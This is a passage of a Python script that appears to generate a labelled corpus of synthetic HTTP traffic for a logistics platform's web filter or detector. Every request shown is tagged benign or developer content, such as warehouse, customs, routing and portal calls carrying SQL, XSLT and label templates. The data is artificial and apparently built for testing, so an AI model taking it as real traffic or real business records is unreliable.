            body = json.dumps({"trackingNumber": ups_tracking(), "status": pick(["DELIVERED", "OUT_FOR_DELIVERY", "EXCEPTION"]),
                               "location": {"city": pick(CITIES)[0].title(), "lat": round(R.uniform(30, 52), 5), "lon": round(R.uniform(-120, 10), 5)},
                               "signedBy": pick(PEOPLE), "note": pick(["Left at front door :)", "Receiver: O'Neill (dock #3)", "Damaged box * re-taped ~ photo attached", "Refused - wrong address?"]),
                               "timestamp": pick(TS)}, ensure_ascii=False)
            c.add("webhook", "benign", "POST", "/hooks/carrier/%s" % pick(["ups", "dhl", "fedex"]),
                  hb(H_TRACK, ua=pick(["UPS-Webhooks/1.0", "DHL-Push/2.1", "Go-http-client/2.0"]), extra=[("Content-Type", "application/json"), ("X-Signature-SHA256", hexs(64))]), body)


def benign_wms(c):
    for i in range(16):
        k = i % 4
        b = bin_loc()
        if k == 0:
            c.add("wms", "benign", "GET", "/api/bins/%s/stock" % b, hb(H_WMS, extra=[("Authorization", bearer())]))
        elif k == 1:
            c.add("wms", "benign", "GET", "/api/inventory?" + qs([("bin", b), ("sku", pick(SKUS)), ("status", "AVAILABLE"), ("page", str(R.randrange(1, 9)))]), hb(H_WMS, extra=[("Authorization", bearer())]))
        elif k == 2:
            body = json.dumps({"from": b, "to": bin_loc(), "sku": pick(SKUS), "qty": R.randrange(1, 120), "reason": pick(["replenish", "consolidate", "damaged -> QA hold"]), "operator": "op%03d" % R.randrange(1, 300)})
            c.add("wms", "benign", "POST", "/api/moves", hb(H_WMS, ua=pick(UA_MOBILE), extra=[("Content-Type", "application/json"), ("Authorization", bearer())]), body)
        else:
            body = qs([("bin", b), ("counted", str(R.randrange(0, 200))), ("expected", str(R.randrange(0, 200))), ("comment", pick(["2 cartons crushed; qty +/- 1", "recount after 14:00", "matches"])), ("_csrf", hexs(32))])
            c.add("wms", "benign", "POST", "/cycle-count/submit", hbrowser(H_WMS, extra=[("Content-Type", "application/x-www-form-urlencoded"), ("Origin", "https://" + H_WMS)]), body)
    for i in range(12):
        lines = [{"line": n + 1, "bin": bin_loc(), "sku": pick(SKUS), "qty": R.randrange(1, 48), "lot": "L" + digits(6)} for n in range(R.randrange(2, 7))]
        body = json.dumps({"pickListId": "PL-%s" % digits(7), "wave": "W%s-%02d" % (digits(4), R.randrange(1, 30)), "priority": pick(["STD", "EXPRESS", "COLD"]),
                           "lines": lines, "shipTo": {"name": pick(COMPANIES), "attn": pick(PEOPLE)}}, ensure_ascii=False)
        c.add("picklist", "benign", pick(["POST", "PUT"]), "/api/picklists" if i % 2 == 0 else "/api/picklists/PL-%s" % digits(7),
              hb(H_WMS, extra=[("Content-Type", "application/json; charset=utf-8"), ("Authorization", bearer())]), body)
    # CSV manifest uploads (quoted fields, leading '-', '+', '=' in codes that are not formulas)
    for i in range(14):
        rows = ['"Manifest No","Line","SKU","Description","Qty","Weight (kg)","Temp","Consignee","Phone","Note"']
        for n in range(R.randrange(3, 8)):
            rows.append('"M%s",%d,"%s","%s",%d,%s,"%s","%s","%s","%s"' % (
                digits(6), n + 1, pick(SKUS + ["-4SEAL-GRN", "+PLT-RETURN", "=STD-BOX-40"]),
                pick(['Bolts, M8 x 40', 'Box 24"x18"x12"', 'Tote; blue, 60L', "Paper - A4 80g", "Frozen peas 2.5kg", "Widget (pack of 10)"]).replace('"', '""'),
                R.randrange(1, 500), "%.2f" % R.uniform(0.1, 900), pick(["-18C", "+2..+8C", "AMBIENT", "-25C/-15C"]),
                pick(COMPANIES).replace('"', '""'), pick(["+1 312 555 0142", "+44 20 7946 0958", "-", "+49 40 123456"]),
                pick(["", "Call before delivery", "Dock 3 - rear entrance", "@reception", "Mon-Fri 08:00-16:00"])))
        csv = "\r\n".join(rows) + "\r\n"
        ct, body = multipart([("warehouse", pick(["DC-EAST", "DC-WEST", "NL-RTM-01"])), ("delimiter", ","),
                              ("file", "manifest_%s.csv" % digits(8), pick(["text/csv", "application/vnd.ms-excel"]), csv)])
        c.add("manifest-upload", "benign", "POST", "/api/manifests/upload", hbrowser(H_WMS, accept="application/json", extra=[("Content-Type", ct), ("X-XSRF-TOKEN", hexs(24))]), body)


def benign_customs_erp(c):
    for i in range(15):
        body = ubl_despatch() if i % 2 == 0 else customs_decl()
        path = "/api/despatch-advice" if i % 2 == 0 else "/api/declarations"
        c.add("customs-xml", "benign", "POST", path, hb(H_CUSTOMS, accept="application/xml", extra=[("Content-Type", pick(["application/xml", "text/xml; charset=utf-8"])), ("Authorization", bearer())]), body)
    for i in range(10):
        body = idoc_xml()
        c.add("idoc", "benign", "POST", pick(["/sap/bc/idoc_xml?sap-client=100", "/api/idoc/inbound"]),
              hb(H_ERP, ua="SAP NetWeaver Application Server (1.0;758)", accept="*/*", extra=[("Content-Type", "application/xml"), ("Authorization", "Basic " + base64.b64encode(b"WMS_RFC:" + alnum(12).encode()).decode())]), body)
    filters = [
        "ShipDate ge 2026-01-01 and Status eq 'OPEN'",
        "ShipDate ge datetime'2026-01-01T00:00:00' and ShipDate lt datetime'2026-02-01T00:00:00'",
        "Plant eq '1000' and (Status eq 'OPEN' or Status eq 'PICKED')",
        "substringof('O''BRIEN', ConsigneeName) eq true",
        "startswith(Waybill,'1Z') and GrossWeight gt 100",
        "contains(Description,'Li-ion') or HazmatClass eq '9'",
        "Carrier eq 'MAEU' and Route/Origin eq 'CN-SHA' and Route/Destination eq 'US-LAX'",
        "not(Status eq 'CANCELLED') and Items/any(i: i/Qty gt 10)",
        "DeliveryDate eq null",
        "year(ShipDate) eq 2026 and month(ShipDate) eq 1",
    ]
    for i in range(25):
        f = pick(filters)
        params = [("$filter", f), ("$select", pick(["ShipmentId,ShipDate,Status", "Waybill,Carrier,GrossWeight,ConsigneeName", "*"])),
                  ("$top", str(pick([20, 50, 100]))), ("$orderby", pick(["ShipDate desc", "Waybill asc"])), ("$format", "json")]
        if i % 3 == 0:
            params.append(("$expand", "Items"))
        if i % 4 == 0:
            params.append(("$inlinecount", "allpages"))
        if i % 2 == 0:
            uri = "/sap/opu/odata/sap/ZSHIPMENT_SRV/Shipments?" + qs(params, plus=False)
        else:
            uri = "/odata/v4/logistics/Shipments?" + qs_loose(params, safe="/:,'()$")
        c.add("odata", "benign", "GET", uri, hb(H_ERP, ua=pick(["SAPUI5/1.120", "Microsoft.Data.Mashup (https://go.microsoft.com/fwlink/?LinkID=304225)"] + UA_BROWSER),
                                                 extra=[("Authorization", bearer()), ("sap-client", "100"), ("DataServiceVersion", "2.0")]))


def benign_field(c):
    # route optimisation
    for i in range(15):
        stops = [{"id": "S%d" % (n + 1), "lat": round(R.uniform(41.6, 42.1), 6), "lng": round(R.uniform(-88.0, -87.5), 6),
                  "window": ["%02d:00" % (8 + n), "%02d:30" % (10 + n)], "serviceMin": R.randrange(5, 30),
                  "demand": {"kg": R.randrange(10, 900), "pallets": R.randrange(0, 4)}} for n in range(R.randrange(3, 9))]
        body = json.dumps({"depot": {"lat": 41.8527, "lng": -87.6631}, "vehicles": [{"id": "TRK-%02d" % v, "capacityKg": 12000, "shift": "06:00-18:00"} for v in range(R.randrange(1, 4))],
                           "stops": stops, "objective": pick(["minimize_distance", "minimize_time"]), "avoid": pick([["tolls"], ["ferries", "highways"], []]),
                           "geometry": "polyline6"})
        c.add("route-optimize", "benign", "POST", "/api/v1/optimize?" + qs([("async", pick(["true", "false"]))]),
              hb(H_ROUTE, extra=[("Content-Type", "application/json"), ("Authorization", bearer())]), body)
    for i in range(5):
        coords = ";".join("%.5f,%.5f" % (R.uniform(-88, -87.5), R.uniform(41.6, 42.1)) for _ in range(R.randrange(2, 6)))
        c.add("route-optimize", "benign", "GET", "/api/v1/route/driving/%s?%s" % (coords, qs([("overview", "full"), ("annotations", "duration,distance")])),
              hb(H_ROUTE, ua=pick(UA_MOBILE)))
    # proof of delivery
    for i in range(20):
        k = i % 3
        if k == 0:
            svg = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 300 100"><path d="M10 60 C 40 10, 65 10, 95 60 S 150 110, 180 60 L 240 55" stroke="#000" fill="none" stroke-width="2"/></svg>'
            ct, body = multipart([("stopId", "S%d" % R.randrange(1, 30)), ("waybill", waybill()), ("receivedBy", pick(PEOPLE)),
                                  ("note", pick(["Left with neighbour @ no. 14", "Signed; 2 of 3 boxes (1 to follow)", "Gate code #4521* used", "Back door ~ under porch"])),
                                  ("lat", "%.6f" % R.uniform(41.6, 42.1)), ("lng", "%.6f" % R.uniform(-88, -87.5)),
                                  ("signature", "signature.svg", "image/svg+xml", svg)], style="okhttp")
        elif k == 1:
            ct, body = multipart([("waybill", waybill()), ("receivedBy", pick(PEOPLE)), ("signature", fake_png_dataurl()),
                                  ("photoBase64", fake_jpeg_b64()), ("capturedAt", pick(TS))], style="alamofire")
        else:
            ct = "application/json"
            body = json.dumps({"waybill": waybill(), "status": "DELIVERED", "receivedBy": pick(PEOPLE),
                               "signature": {"format": "png", "data": fake_png_dataurl()}, "photos": [{"name": "pod_1.jpg", "data": fake_jpeg_b64(120)}],
                               "exceptions": pick([[], ["DAMAGED_PACKAGING"], ["PARTIAL"]]), "odometerKm": R.randrange(1000, 300000)}, ensure_ascii=False)
        c.add("pod", "benign", "POST", "/api/v3/stops/%s/pod" % digits(8), hb(H_DRIVER, ua=pick(UA_MOBILE), extra=[("Content-Type", ct), ("Authorization", bearer())]), body)
    # freight rate quoting
    for i in range(25):
        o, d = R.sample(PORTS, 2)
        k = i % 5
        if k == 0:
            uri = "/api/rates?" + qs([("filter", "weight>=%d" % pick([100, 500, 1000])), ("lane", "%s|%s" % (o, d)), ("mode", pick(["FCL", "LCL", "AIR"]))], plus=False)
        elif k == 1:
            uri = "/api/rates?" + qs_loose([("lane", "%s|%s" % (o, d)), ("weight", ">=%d" % R.randrange(50, 2000)), ("incoterm", pick(["FOB", "EXW", "DAP", "CIF"]))])
        elif k == 2:
            uri = "/api/rates/search?" + qs([("q", "origin:%s AND dest:%s AND weight>=%d AND transit<=%d" % (o, d, R.randrange(50, 900), R.randrange(5, 40)))])
        elif k == 3:
            uri = "/api/rates?" + qs([("origin", o), ("destination", d), ("weight_gte", str(R.randrange(100, 4000))), ("weight_lt", str(R.randrange(5000, 20000))),
                                      ("container", pick(["20GP", "40HC", "45HC"])), ("sort", "-price,transitDays")])
        else:
            uri = "/api/rates?" + qs_loose([("lanes", "%s|%s,%s|%s" % (o, d, d, o)), ("cbm", "%.1f" % R.uniform(1, 60)), ("hazmat", "UN3480*9"), ("ready", "2026-01-20")])
        c.add("rates", "benign", "GET", uri, hbrowser(H_RATES, accept="application/json") if i % 2 else hb(H_RATES, extra=[("X-Api-Key", hexs(32))]))
    for i in range(6):
        body = json.dumps({"origin": {"unlocode": pick(PORTS), "zip": "60607"}, "destination": {"unlocode": pick(PORTS)},
                           "pieces": [{"l": 120, "w": 80, "h": R.randrange(60, 180), "kg": R.randrange(50, 900), "stackable": True}],
                           "accessorials": pick([["LIFTGATE"], ["RESIDENTIAL", "APPT"], []]), "currency": "USD"})
        c.add("rates", "benign", "POST", "/api/quotes", hb(H_RATES, extra=[("Content-Type", "application/json"), ("X-Api-Key", hexs(32))]), body)


def benign_docs_portal(c):
    # document downloads (bol / invoice / pod) and label rendering
    for i in range(16):
        k = i % 4
        if k == 0:
            uri = "/api/documents/download?" + qs([("bol", "BOL-%s.pdf" % digits(8))])
        elif k == 1:
            uri = "/api/documents/download?" + qs([("invoice", "INV/2026/%s" % digits(5)), ("format", "pdf")])
        elif k == 2:
            uri = "/api/documents/pod/%s/%s" % (digits(8), pick(["pod_1.jpg", "signature.png", "pod-summary.pdf"]))
        else:
            uri = "/files?" + qs([("pod", "2026/01/%s/%s.jpg" % (digits(2), waybill())), ("size", pick(["thumb", "full"]))])
        c.add("documents", "benign", "GET", uri, hbrowser(H_PORTAL, accept="application/pdf,image/*,*/*;q=0.8"))
    for i in range(12):
        k = i % 3
        if k == 0:
            uri = "/api/labels/render?" + qs([("shipment", "SHP" + digits(7)), ("format", pick(["zpl", "pdf", "png"])), ("dpi", pick(["203", "300"])), ("size", "4x6")])
            c.add("labels", "benign", "GET", uri, hb(H_LABEL, accept="*/*"))
        elif k == 1:
            body = json.dumps({"printer": pick(["ZD621-DOCK3", "zebra-dc-east-07", "ZT411_PACK_02"]), "copies": R.randrange(1, 4),
                               "shipments": ["SHP" + digits(7) for _ in range(R.randrange(1, 4))], "labelImageUrl": "https://cdn.example.com/labels/%s.png" % hexs(12)})
            c.add("labels", "benign", "POST", "/api/labels/print", hb(H_LABEL, extra=[("Content-Type", "application/json"), ("Authorization", bearer())]), body)
        else:
            body = qs([("report", pick(["daily-shipments", "carrier-scorecard", "dwell-time"])), ("from", "2026-01-01"), ("to", "2026-01-31"),
                       ("format", pick(["csv", "xlsx", "pdf"])), ("filename", "report %s (Jan).csv" % pick(["DC-EAST", "Q1 - draft"])), ("_csrf", hexs(32))])
            c.add("report-export", "benign", "POST", "/reports/export", hbrowser(H_PORTAL, extra=[("Content-Type", "application/x-www-form-urlencoded"), ("Origin", "https://" + H_PORTAL)]), body)
    # portal forms: consignee names, delivery notes, searches
    for i in range(20):
        k = i % 4
        if k == 0:
            body = qs([("consignee", pick(COMPANIES)), ("attn", pick(PEOPLE)), ("address1", "%d Rue de l'\u00c9glise" % R.randrange(1, 90)), ("city", "Lyon"),
                       ("notes", pick(["Ring bell <2x>; if no answer leave @ kiosk", "Dock hours 7-15 & Sat 8-12", "Beware: dog :-)", "Fragile!!! -> this side up", "Use entrance \"B\" (rear)"])),
                       ("_csrf", hexs(32))])
            c.add("portal-form", "benign", "POST", "/shipments/new", hbrowser(H_PORTAL, extra=[("Content-Type", "application/x-www-form-urlencoded"), ("Origin", "https://" + H_PORTAL), ("Referer", "https://%s/shipments/new" % H_PORTAL)]), body)
        elif k == 1:
            c.add("portal-form", "benign", "GET", "/shipments?" + qs([("q", pick(["O'Brien", "M\u00fcller & Co", "1Z* delivered", "\"Pacific Rim\"", "dock 4 + liftgate", "PO# 44821"])), ("status", pick(["all", "open"]))]), hbrowser(H_PORTAL))
        elif k == 2:
            body = json.dumps({"deliveryInstructions": pick(["Please call 30 min before: +1 (312) 555-0142", "Leave at back door -- NOT front", "Code *2580# for gate", "Use <service entrance> on 5th Ave"]),
                               "consigneeName": pick(COMPANIES), "contact": pick(PEOPLE)}, ensure_ascii=False)
            c.add("portal-form", "benign", "PATCH", "/api/shipments/SHP%s" % digits(7), hbrowser(H_PORTAL, accept="application/json", extra=[("Content-Type", "application/json"), ("X-XSRF-TOKEN", hexs(24))]), body)
        else:
            c.add("portal-form", "benign", "GET", "/api/partners?" + qs([("search", pick(["ACME*", "Nordic Cold", "ZZ:PACRIMFWD", "0079123450000"])), ("qualifier", pick(["ZZ", "01", "14"]))]), hbrowser(H_PORTAL, accept="application/json"))
    # support tickets (non-code)
    for i in range(8):
        subj, text, comp = pick([
            ("997 rejected: AK5*R for ST 0001", "Partner says our ISA13 is reused ~ can you check? GS*SM*ACMEFREIGHT*LOGIHUBPROD...", "EDI"),
            ("MDN not received for msg <abc@edi.example.com>", "No MDN since 09:40; partner's Disposition-Notification-Options asks for sha-256.", "EDI"),
            ("UNB names show ?+", "Since 12/01 the EDIFACT from 5412345000013 shows '?+' in names, e.g. HOLLOWAY ?+ PARTNERS.", "EDI"),
            ("Pallet label prints off-center", "Label is 4x6 but printer ZD621-DOCK3 is set to 4x4; please advise.", "Labels"),
            ("214 status mapping", "The carrier's 214 has AT7*X1*NS and we map it to 'Arrived at pickup' -- correct?", "EDI"),
            ("Bin A-01-03 shows -2 on hand", "Cycle count says 0 but system shows -2 (two picks confirmed twice?).", "WMS")])
        body = json.dumps({"subject": subj, "body": text, "priority": pick(["P2", "P3"]), "component": comp})
        c.add("ticket", "benign", "POST", "/api/tickets", hbrowser(H_HELP, accept="application/json", extra=[("Content-Type", "application/json")]), body)


# ---------------------------------------------------------------------------
# Dev-content: legitimate requests whose content is code / SQL / templates
# ---------------------------------------------------------------------------

DEV_SNIPPETS = {
    "xslt": [
        '<?xml version="1.0"?>\n<xsl:stylesheet version="2.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"\n'
        '  xmlns:cbc="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2">\n'
        '  <xsl:output method="text"/>\n  <xsl:template match="/">\n'
        '    <xsl:text>ST*856*0001~</xsl:text>\n    <xsl:value-of select="concat(\'BSN*00*\', //cbc:ID, \'*\', translate(//cbc:IssueDate, \'-\', \'\'), \'~\')"/>\n'
        '    <xsl:for-each select="//cac:DespatchLine">\n      <xsl:value-of select="concat(\'LIN*\', position(), \'*VP*\', cac:Item/cbc:Name, \'~&#10;\')"/>\n'
        '    </xsl:for-each>\n  </xsl:template>\n</xsl:stylesheet>\n',
        '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">\n'
        '<xsl:template match="E1EDL24">\n  <line sku="{MATNR}" qty="{number(LFIMG)}">\n'
        '    <xsl:if test="string-length(ARKTX) &gt; 0 and not(contains(ARKTX, \'&amp;\'))"><xsl:value-of select="normalize-space(ARKTX)"/></xsl:if>\n'
        '  </line>\n</xsl:template>\n</xsl:stylesheet>\n',
    ],
    "jsonata": [
        '$sum(shipment.lines.(qty * unitWeightKg)) > 1000 ? "LTL" : "PARCEL"',
        '{\n  "ST": "856",\n  "BSN": [ "00", asn.id, $fromMillis($toMillis(asn.date), "[Y0001][M01][D01]") ],\n'
        '  "HL": $map(asn.pallets, function($p, $i) { { "id": $i + 1, "sscc": "00" & $p.sscc } })\n}',
        'orders[status in ["OPEN","PICKED"] and $contains(consignee, /o\'brien/i)].{ "po": po, "bins": lines.bin ~> $distinct() ~> $join("|") }',
    ],
    "python": [
        'import csv, io\nfrom pyx12 import x12file\n\ndef map_214(path):\n    """AT7*X1 -> ARRIVED"""\n'
        '    for seg in x12file.X12Reader(path):\n        if seg.get_seg_id() == "AT7":\n            yield {"status": seg.get_value("AT701"), "ts": seg.get_value("AT705") + seg.get_value("AT706")}\n\n'
        'rows = list(map_214("/data/inbound/214_%s.edi"))\nw = csv.DictWriter(io.StringIO(), fieldnames=["status", "ts"])\n',
        'import re\nGS = "\\x1d"\nAI = re.compile(r"^(00)(\\d{18})|^(01)(\\d{14})|^(10)([^\\x1d]{1,20})")\n\n'
        'def parse_gs1(raw: str) -> dict:\n    raw = raw.removeprefix("]C1")\n    out = {}\n    while raw:\n        m = AI.match(raw)\n'
        '        if not m:\n            raise ValueError(f"bad AI at {raw[:4]!r}")\n        ai, val = [g for g in m.groups() if g][:2]\n'
        '        out[ai] = val\n        raw = raw[m.end():].lstrip(GS)\n    return out\n',
        'import subprocess, pathlib\n\n# sign + send via OpenAS2 CLI\nfor f in pathlib.Path("/opt/edi/outbox").glob("*.x12"):\n'
        '    subprocess.run(["openssl", "smime", "-sign", "-in", str(f), "-signer", "/etc/edi/certs/partner.pem", "-outform", "DER"], check=True)\n'
        '    f.rename(f.with_suffix(".sent"))\n',
    ],
    "groovy": [
        'import com.sap.gateway.ip.core.customdev.util.Message\n\ndef Message processData(Message message) {\n'
        '    def body = message.getBody(String)\n    def segs = body.split("\'")\n    def unb = segs.find { it.startsWith("UNB+") }\n'
        '    message.setProperty("sender", unb?.tokenize("+")[2]?.tokenize(":")[0])\n    message.setBody(segs.join("\'\\n"))\n    return message\n}\n',
    ],
    "dataweave": [
        '%dw 2.0\noutput application/json\n---\npayload.TransactionSets.v004010."856" map (ts) -> {\n'
        '  asn: ts.BSN.BSN02,\n  lines: ts.HL_Loop filter ($.HL03 == "I") map { sku: $.LIN.LIN03, qty: $.SN1.SN102 as Number }\n}\n',
    ],
    "sql": [
        "SELECT b.location_code, s.sku, SUM(s.qty_on_hand) AS on_hand\nFROM stock s JOIN bins b ON b.id = s.bin_id\n"
        "WHERE b.zone IN ('A','B') AND s.updated_at >= '2026-01-01'\nGROUP BY b.location_code, s.sku\nHAVING SUM(s.qty_on_hand) < 5\nORDER BY on_hand;",
        "-- dwell time per carrier, last 30 days\nSELECT carrier_scac, AVG(EXTRACT(EPOCH FROM (departed_at - arrived_at))/3600) AS avg_hours\n"
        "FROM yard_visits WHERE arrived_at > now() - interval '30 days' GROUP BY 1 ORDER BY 2 DESC LIMIT 10;",
        "UPDATE shipments SET status = 'DELIVERED', delivered_at = pod.captured_at\nFROM pod WHERE pod.waybill = shipments.waybill AND shipments.status = 'OUT_FOR_DELIVERY';",
        "SELECT waybill, consignee_name FROM shipments WHERE consignee_name LIKE '%O''Brien%' OR consignee_name LIKE 'HOLLOWAY + %';",
        "WITH picks AS (\n  SELECT picker_id, COUNT(*) AS lines, MIN(picked_at) t0, MAX(picked_at) t1\n  FROM pick_lines WHERE wave_id = 'W2601-07' GROUP BY picker_id\n)\n"
        "SELECT picker_id, lines / NULLIF(EXTRACT(EPOCH FROM t1 - t0)/3600, 0) AS lines_per_hour FROM picks;",
        "DELETE FROM edi_inbox WHERE received_at < CURRENT_DATE - 90 AND status = 'ARCHIVED';",
    ],
    "zpl": [
        "^XA\n^CI28\n^FO40,40^A0N,40,40^FDShip To: {{ consignee.name }}^FS\n^FO40,90^A0N,30,30^FD{{ consignee.street }}, {{ consignee.city }}^FS\n"
        "^FO40,200^BY3^BCN,120,Y,N,N^FD>;>8{{ sscc }}^FS\n^FO40,360^GB720,3,3^FS\n^FO40,380^A0N,28,28^FDPO: {{ po }}  Pallet {{ n }}/{{ total }}^FS\n^XZ",
        "^XA^PW812^LL1218\n^FO50,50^GFA,1280,1280,20,::::::::::::^FS\n^FO50,300^BQN,2,6^FDLA,https://track.example.net/t/${waybill}^FS\n^FT50,700^A0N,60,60^FH\\^FD${route}_5F${stop}^FS\n^XZ",
        "^XA\n^FX GS1-128 with FNC1 >8\n^FO60,100^BY2^BCN,150,Y,N,N,D^FD(00)${sscc}(420)${zip}^FS\n^XZ",
    ],
    "shell": [
        "0 */2 * * * /opt/edi/bin/poll-sftp.sh --partner ACMEFREIGHT >> /var/log/edi/poll.log 2>&1\n"
        "15 3 * * * find /opt/edi/archive -name '*.x12' -mtime +90 -delete",
        "curl -sS -X POST https://edi.example.com/as2/receive \\\n  -H 'AS2-From: ACMEFREIGHT' -H 'AS2-To: LOGIHUBPROD' \\\n"
        "  -H 'Content-Type: application/edi-x12' --data-binary @204_test.x12",
        "for f in inbound/*.edi; do\n  grep -c '^ST\\*214' \"$f\" | xargs -I{} echo \"$f: {} status msgs\"\ndone",
    ],
    "templates": [
        "Hello {{ consignee.contact }},\n\nYour shipment {{ waybill }} is {{ status | lower }}.\n{% if eta %}Expected: {{ eta | date('D MMM, HH:mm') }}{% endif %}\n"
        "{% for p in pieces %} - {{ p.sscc }} ({{ p.weight }} kg)\n{% endfor %}",
        "<p>Dear {{consigneeName}},</p>\n{{#if delayed}}<p>We're sorry &mdash; your delivery is delayed to {{newEta}}.</p>{{/if}}\n"
        "<a href=\"https://track.example.net/t/{{waybill}}\">Track</a>",
        "Shipment ${shipment.id} for ${consignee.name?html} left ${origin.city} on ${shipDate?string('yyyy-MM-dd')}.",
    ],
    "xpath": [
        "//cac:Shipment[cbc:GrossWeightMeasure > 1000]/cbc:ID",
        "/DESADV01/IDOC/E1EDL20/E1EDL24[number(LFIMG) > 0 and starts-with(MATNR, 'PAL')]",
        "count(//Segment[@id='HL'][Element[3]='I'])",
    ],
    "regex": [
        "^1Z[0-9A-Z]{16}$|^\\d{12}$|^\\d{20,22}$",
        "(?<ai>\\(\\d{2,4}\\))(?<val>[^()\\x1d]+)",
        "^[A-H]-(0[1-9]|[1-3]\\d)-0[1-7]$",
    ],
}


def dev_content(c):
    kinds = list(DEV_SNIPPETS)
    n = 0
    for kind in kinds:
        for snip in DEV_SNIPPETS[kind]:
            n += 1
            k = n % 5
            title = "%s mapping / snippet #%d" % (kind.upper(), n)
            if kind == "sql" or kind == "shell" or k == 0:
                body = json.dumps({"subject": "Report request: %s" % pick(["low stock bins", "carrier dwell", "POD sync", "archive cleanup", "cron for SFTP"]) if kind in ("sql", "shell") else title,
                                   "body": "Can someone review this before we run it in prod?\n\n```\n%s\n```\nThanks!" % snip, "component": "Reporting"})
                c.add("ticket-code", "dev-content", "POST", "/api/tickets", hbrowser(H_HELP, accept="application/json", extra=[("Content-Type", "application/json"), ("X-XSRF-TOKEN", hexs(24))]), body)
            if kind in ("xslt", "groovy", "dataweave", "python", "jsonata"):
                if k % 2 == 0:
                    ct, body = multipart([("name", "%s-%s" % (pick(["856-outbound", "desadv-to-asn", "214-status", "gs1-parser"]), digits(3))),
                                          ("language", kind), ("partner", pick(["ACMEFREIGHT", "NORDICCOLD", "5412345000013"])),
                                          ("script", "map.%s" % {"xslt": "xsl", "groovy": "groovy", "dataweave": "dwl", "python": "py", "jsonata": "jsonata"}[kind], "application/octet-stream", snip)])
                    c.add("mapping", "dev-content", "POST", "/api/mappings", hbrowser(H_INTEG, accept="application/json", extra=[("Content-Type", ct)]), body)
                else:
                    body = json.dumps({"language": kind, "source": snip, "test": {"input": pick(["ST*856*0001~BSN*00*ASN1234*20260112*1130~", "UNB+UNOC:3+5412345000013:14+4012345000009:14+260112:1130+1'"])}})
                    c.add("mapping", "dev-content", "PUT", "/api/mappings/%s/draft" % digits(5), hb(H_INTEG, extra=[("Content-Type", "application/json"), ("Authorization", bearer())]), body)
            if kind == "zpl":
                body = json.dumps({"name": "pallet-4x6-%s" % digits(2), "engine": pick(["mustache", "velocity-lite"]), "zpl": snip, "dpi": 203})
                c.add("zpl-template", "dev-content", "PUT", "/api/labels/templates/%s" % digits(4), hb(H_LABEL, extra=[("Content-Type", "application/json"), ("Authorization", bearer())]), body)
                ct, body = multipart([("template", "pallet.zpl", "text/plain", snip), ("preview", "true")])
                c.add("zpl-template", "dev-content", "POST", "/api/labels/preview", hbrowser(H_LABEL, accept="image/png", extra=[("Content-Type", ct)]), body)
            if kind == "templates":
                body = qs([("name", "delivery-%s" % pick(["delayed", "out-for-delivery", "delivered"])), ("channel", "email"), ("template", snip), ("_csrf", hexs(32))])
                c.add("notify-template", "dev-content", "POST", "/admin/notifications/templates", hbrowser(H_PORTAL, extra=[("Content-Type", "application/x-www-form-urlencoded"), ("Origin", "https://" + H_PORTAL)]), body)
                body = json.dumps({"template": snip, "sample": {"waybill": ups_tracking(), "status": "DELAYED"}})
                c.add("notify-template", "dev-content", "POST", "/api/notifications/templates/preview", hb(H_PORTAL, extra=[("Content-Type", "application/json"), ("Authorization", bearer())]), body)
            if kind == "xpath":
                c.add("xpath-query", "dev-content", "GET", "/api/integrations/xpath-test?" + qs([("doc", "DA-%s" % digits(6)), ("expr", snip)]), hbrowser(H_INTEG, accept="application/json"))
                body = json.dumps({"rule": "route-heavy", "condition": snip, "target": "queue:heavy-freight"})
                c.add("xpath-query", "dev-content", "POST", "/api/routing-rules", hb(H_INTEG, extra=[("Content-Type", "application/json"), ("Authorization", bearer())]), body)
            if kind == "regex":
                c.add("validation-rule", "dev-content", "GET", "/api/validators/test?" + qs([("pattern", snip), ("sample", pick([ups_tracking(), "A-01-03", "(01)09521234543213(10)LOT1"]))], plus=False), hbrowser(H_INTEG, accept="application/json"))
                body = json.dumps({"field": pick(["waybill", "binLocation", "gs1"]), "pattern": snip, "message": "Invalid value"})
                c.add("validation-rule", "dev-content", "POST", "/api/validators", hb(H_INTEG, extra=[("Content-Type", "application/json"), ("Authorization", bearer())]), body)
    # SQL for the report builder and saved OData queries, sent as query parameters
    for snip in DEV_SNIPPETS["sql"][:4]:
        c.add("report-sql", "dev-content", "GET", "/reports/builder/preview?" + qs([("sql", snip), ("limit", "100")]), hbrowser(H_PORTAL, accept="application/json"))
        body = json.dumps({"name": "custom report %s" % digits(3), "datasource": "wms_replica", "query": snip, "schedule": "0 6 * * 1-5"})
        c.add("report-sql", "dev-content", "POST", "/api/reports/saved", hb(H_PORTAL, extra=[("Content-Type", "application/json"), ("Authorization", bearer())]), body)
    # wiki pages with EDI implementation guides (markup + examples)
    guides = [
        ("edi-204-guide", "## Segment N1\n\n| Elem | Value |\n|---|---|\n| N101 | `SH` |\n| N104 | ID code *(qualifier 93)* |\n\n"
                          "Example:\n\n```\nN1*SH*ACME FREIGHT LLC*93*004512~\nN4*CHICAGO*IL*60607*US~\n```\n\n"
                          "<details><summary>XML form</summary>\n\n```xml\n<N1><N101>SH</N101><N102>ACME</N102></N1>\n```\n</details>\n"),
        ("iftmin-guide", "### Release characters\n\nUNA:+.? ' means `?` escapes `+ : ' ?`. So `O?'BRIEN ?+ SONS` is *O'BRIEN + SONS*.\n\n"
                         "```\nNAD+CN+4012345000009::9++O?'BRIEN ?+ SONS+KEIZERSGRACHT 12+AMSTERDAM++1015CX+NL'\n```\n"),
        ("hl7-escapes", "HL7 escapes: `\\F\\` = |, `\\S\\` = ^, `\\T\\` = &, `\\R\\` = ~, `\\E\\` = \\.\n\n"
                        "```\nMSH|^~\\&|PHARMSYS|CENTRALFILL|WMS|DC-EAST|202601121130||RDE^O11^RDE_O11|MSG1|P|2.5.1\nRXE|^BID|...|KEEP 2\\T\\8C\n```\n"),
    ]
    for slug, content in guides:
        body = json.dumps({"title": slug.replace("-", " ").title(), "format": "markdown", "content": content})
        c.add("wiki", "dev-content", "PUT", "/api/wiki/pages/%s" % slug, hbrowser(H_HELP, accept="application/json", extra=[("Content-Type", "application/json")]), body)
    # integration scripts: Node.js carrier adapters, jq webhook transforms
    js = [
        "module.exports = async function mapUps(evt) {\n  const a = evt.trackResponse.shipment[0].package[0];\n"
        "  return { waybill: a.trackingNumber, status: a.activity[0].status.type === 'D' ? 'DELIVERED' : 'IN_TRANSIT',\n"
        "           at: new Date(`${a.activity[0].date}T${a.activity[0].time}`).toISOString() };\n};\n",
